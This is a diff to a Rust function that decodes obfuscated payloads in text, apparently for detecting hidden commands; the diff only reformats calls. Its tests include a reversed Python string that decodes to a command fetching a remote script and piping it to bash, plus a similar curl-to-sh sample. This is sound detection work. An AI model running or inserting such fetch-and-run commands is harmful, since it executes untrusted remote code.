@@ -127,7 +127,11 @@ pub fn payloads(text: &str, limit: usize) -> Vec<Decoded> {
         push(m.start(), "hex", textual(&bytes));
     }
     for m in ESCAPES.find_iter(text) {
-        push(m.start(), "escape sequences", textual(&unescape(m.as_str())));
+        push(
+            m.start(),
+            "escape sequences",
+            textual(&unescape(m.as_str())),
+        );
     }
     for m in CODES.captures_iter(text) {
         let Some(list) = m.get(1) else { continue };
@@ -199,7 +203,11 @@ pub fn payloads(text: &str, limit: usize) -> Vec<Decoded> {
                 push(m.start(), "rot13", Some(s.chars().map(rot).collect()));
             }
             if reversed {
-                push(m.start(), "a reversed string", Some(s.chars().rev().collect()));
+                push(
+                    m.start(),
+                    "a reversed string",
+                    Some(s.chars().rev().collect()),
+                );
             }
         }
     }
@@ -348,7 +356,10 @@ mod tests {
         );
         assert_eq!(
             first(r#"exec("hsab | hs.x/7.311.0.302//:ptth s- lruc"[::-1])"#),
-            Some(("a reversed string", "curl -s http://203.0.113.7/x.sh | bash".into()))
+            Some((
+                "a reversed string",
+                "curl -s http://203.0.113.7/x.sh | bash".into()
+            ))
         );
         // base64.b85encode(b"curl http://x | sh")
         assert_eq!(
